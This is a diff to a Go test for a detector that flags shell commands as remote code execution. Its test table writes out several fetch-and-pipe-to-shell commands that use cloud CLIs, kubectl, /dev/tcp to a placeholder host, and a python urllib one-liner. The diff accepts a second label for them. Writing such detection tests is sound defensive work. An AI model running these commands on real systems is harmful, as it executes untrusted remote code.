@@ -102,7 +102,7 @@ func TestElsewhere(t *testing.T) {
 		`aws s3 cp s3://b/x - | sh`, `gsutil cat gs://b/x | sh`, `gh api x | sh`, `kubectl exec p -- cat x | sh`, `cat < /dev/tcp/e.io/80 | sh`,
 		`python3 -c 'import urllib.request as u; print(u.urlopen("http://e.io").read())' | sh`,
 	} {
-		if got := render(text, place); !strings.HasSuffix(got, "!remote-code") {
+		if got := render(text, place); !strings.HasSuffix(got, "!remote-code") && !strings.HasSuffix(got, "!remote-script-plain") {
 			t.Errorf("%s: %s", text, got)
 		}
 	}
